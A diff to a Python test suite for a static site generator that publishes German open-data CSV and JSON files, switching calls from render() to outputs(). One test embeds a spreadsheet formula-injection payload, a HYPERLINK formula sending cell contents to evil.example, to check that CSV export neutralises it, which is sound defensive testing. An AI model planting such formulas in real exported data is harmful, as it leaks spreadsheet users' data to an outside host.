@@ -9,8 +9,7 @@ from generator.data import PAGE, TABLES, Publication, size_de
 from generator.kinds import MODELS
 from generator.link import Site, link
 from generator.load import load
-from generator.pipeline import publication
-from generator.render import render
+from generator.pipeline import outputs, publication
 from generator.settings import OpenData, Settings
 from generator.validate import validate
 
@@ -24,7 +23,7 @@ def site_of(folder: Path) -> Site:
 @pytest.fixture(scope="module", params=["valid", "seed"])
 def rendered(request: pytest.FixtureRequest) -> tuple[Site, dict[str, str]]:
     site = site_of(FIXTURES / "valid" if request.param == "valid" else CONTENT)
-    return site, {p.path: p.text for p in render(site, settings=Settings())}
+    return site, {p.path: p.text for p in outputs(site, settings=Settings())}
 
 
 def test_each_record_as_json_reads_back_into_the_same_record(rendered: tuple[Site, dict[str, str]]) -> None:
@@ -42,7 +41,7 @@ def test_each_record_as_json_reads_back_into_the_same_record(rendered: tuple[Sit
 
 def test_a_renamed_records_data_stays_at_its_former_address() -> None:
     site = site_of(FIXTURES / "valid")
-    pages = {p.path: p.text for p in render(site)}
+    pages = {p.path: p.text for p in outputs(site)}
     assert pages["vorlagen/bericht-2020.json"] == pages["vorlagen/vorlage-2.json"]  # former_ids: [bericht-2020]
     assert json.loads(pages["vorlagen/bericht-2020.json"])["url"].endswith("/vorlagen/vorlage-2/")
 
@@ -108,7 +107,7 @@ def test_tables_give_back_the_records(rendered: tuple[Site, dict[str, str]]) -> 
 
 def test_unknown_values_stay_empty_in_the_seed() -> None:
     site = site_of(CONTENT)
-    pages = {p.path: p.text for p in render(site)}
+    pages = {p.path: p.text for p in outputs(site)}
     lines = list(csv.DictReader(io.StringIO(pages["daten/unterschriften.csv"], newline="")))
     jobcenter = next(r for r in lines if r["organization"] == "jobcenter-rhein-kreis-neuss")
     assert (jobcenter["status"], jobcenter["date"]) == ("signed", "")  # the paper gives no date
@@ -134,10 +133,10 @@ def test_the_daten_page_documents_every_column_and_links_every_download_with_its
 
 def test_the_daten_page_names_the_licence_or_says_there_is_none() -> None:
     site = site_of(FIXTURES / "valid")
-    unset = {p.path: p.text for p in render(site, settings=Settings())}[PAGE]
+    unset = {p.path: p.text for p in outputs(site, settings=Settings())}[PAGE]
     assert "keine Lizenz angegeben (Einstellung „open_data.licence“ fehlt)" in unset
     settings = Settings(open_data=OpenData(licence="Datenlizenz Deutschland – Zero – Version 2.0", licence_url=None))
-    named = {p.path: p.text for p in render(site, settings=settings)}[PAGE]
+    named = {p.path: p.text for p in outputs(site, settings=settings)}[PAGE]
     assert "unter der Lizenz Datenlizenz Deutschland – Zero – Version 2.0." in named
     assert "keine Lizenz" not in named
 
@@ -202,7 +201,7 @@ def test_csv_cells_that_could_be_formulas_are_neutralised(value: object, cell: s
 def test_a_formula_title_reaches_the_csv_neutralised_and_the_json_verbatim(content_copy: Path) -> None:
     formula = '=HYPERLINK("https://evil.example/?x="&A1,"Klick")'
     (content_copy / "target_groups" / "formel.yml").write_text(f"name: '{formula}'\n", encoding="utf-8")
-    pages = {p.path: p.text for p in render(site_of(content_copy))}
+    pages = {p.path: p.text for p in outputs(site_of(content_copy))}
     rows = list(csv.reader(io.StringIO(pages["daten/zielgruppen.csv"], newline="")))
     assert ["formel", "/zielgruppen/formel/", "'" + formula] in [row[:3] for row in rows]
     assert {"id": "formel", "name": formula}.items() <= next(
